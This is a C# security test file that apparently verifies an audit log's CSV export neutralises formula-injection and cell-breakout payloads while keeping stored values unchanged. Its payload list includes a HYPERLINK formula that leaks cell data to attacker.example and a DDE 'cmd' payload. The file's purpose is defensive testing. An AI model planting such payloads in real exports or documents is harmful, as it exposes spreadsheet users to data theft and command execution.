using AuditTrail.Conformance.Support;
using AuditTrail.Security.Tests.Support;

namespace AuditTrail.Security.Tests;

/// <summary>Formula and cell-breakout payloads in every exported column.</summary>
public sealed class CsvInjectionTests : IAsyncLifetime
{
    private static readonly int ColumnCount = AuditRecordFields.Exported.Count;

    private static readonly string[] Payloads =
    [
        "=1+1",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uFF1D1+1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF20SUM(1)",
        "\",=1+1,\"",
        "a\",\"=1+1",
        "x\r\n=1+1,\"=2\"",
    ];

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

    private readonly List<AuditEvent> _events = [];
    private SecurityHost _host = null!;

    public async Task InitializeAsync()
    {
        _host = await SecurityHost.StartAsync();
        foreach (var payload in Payloads)
        {
            var auditEvent = Everywhere.Event(payload);
            _events.Add(auditEvent with { Id = await _host.Audit.LogAsync(auditEvent) });
        }
    }

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Fact]
    public async Task FormulaAndBreakoutPayloads_InEveryColumn_NeverStartAFormulaAndStoredValuesAreUnchanged()
    {
        var exports = new Dictionary<string, string>
        {
            ["api"] = await _host.GetTextAsync("/audit/api/export.csv?type=Update", Caller.Admin),
            ["reader"] = await _host.Reader.ExportAsync(AuditExportFormat.Csv, new AuditQuery { ActionTypes = [AuditActionType.Update] }),
        };

        foreach (var (source, csv) in exports)
        {
            var rows = Rfc4180.Parse(csv);
            rows.Should().HaveCount(1 + Payloads.Length, $"the {source} export has a header and one row per record, whatever the payloads");
            rows.Should().OnlyContain(row => row.Count == ColumnCount, "no payload breaks out of its cell");
            foreach (var row in rows.Skip(1))
            {
                foreach (var cell in row)
                {
                    (cell.Length > 0 && FormulaStarts.Contains(cell[0])).Should().BeFalse($"the {source} export cell '{cell}' would start a formula");
                }
            }

            foreach (var auditEvent in _events)
            {
                var row = rows.Should().ContainSingle(row => row[0] == auditEvent.Id!.Value.ToString("D")).Subject;
                var stored = await _host.Reader.GetAsync(AuditViewer.Admin("inspector"), auditEvent.Id!.Value);
                foreach (var (column, value) in Exports.TextCells(stored!))
                {
                    Unneutralized(row[column]).Should().Be(value, $"column {column} shows the stored value");
                }
            }
        }

        foreach (var auditEvent in _events)
        {
            var stored = await _host.Reader.GetAsync(AuditViewer.Admin("inspector"), auditEvent.Id!.Value);
            var payload = auditEvent.Description!;
            stored!.Description.Should().Be(payload, "neutralisation is an export concern; the trail keeps what was logged");
            stored.Actor.Should().Be(AuditActor.User(payload, payload));
            stored.Resource.Should().Be(new AuditResource(payload, payload, payload));
            stored.UserAgent.Should().Be(payload);
            stored.SourceIp.Should().Be(payload);
            stored.TenantId.Should().Be(payload);
            stored.FailureReason.Should().Be(payload);
            stored.CorrelationId.Should().Be(payload);
            stored.Changes.Should().Equal(new AuditFieldChange(payload, payload, payload));
            stored.Metadata.Should().Equal(new Dictionary<string, string> { [payload] = payload });
        }
    }

    /// <summary>
    /// The cell without the apostrophes the export put before the segments a spreadsheet could start with a formula:
    /// the cell's start, and a trigger after a separator (comma, semicolon, tab, space, pipe, line break) and quotes.
    /// </summary>
    private static string Unneutralized(string cell)
    {
        var text = new System.Text.StringBuilder(cell.Length);
        for (var i = 0; i < cell.Length; i++)
        {
            if (cell[i] == '\'' && i + 1 < cell.Length && FormulaStarts.Contains(cell[i + 1]) && StartsSegment(cell, i))
            {
                continue;
            }

            text.Append(cell[i]);
        }

        return text.ToString();
    }

    private static bool StartsSegment(string cell, int index)
    {
        var i = index - 1;
        while (i >= 0 && cell[i] == '"')
        {
            i--;
        }

        return i < 0 || cell[i] is ',' or ';' or '\t' or ' ' or '|' or '\r' or '\n';
    }
}
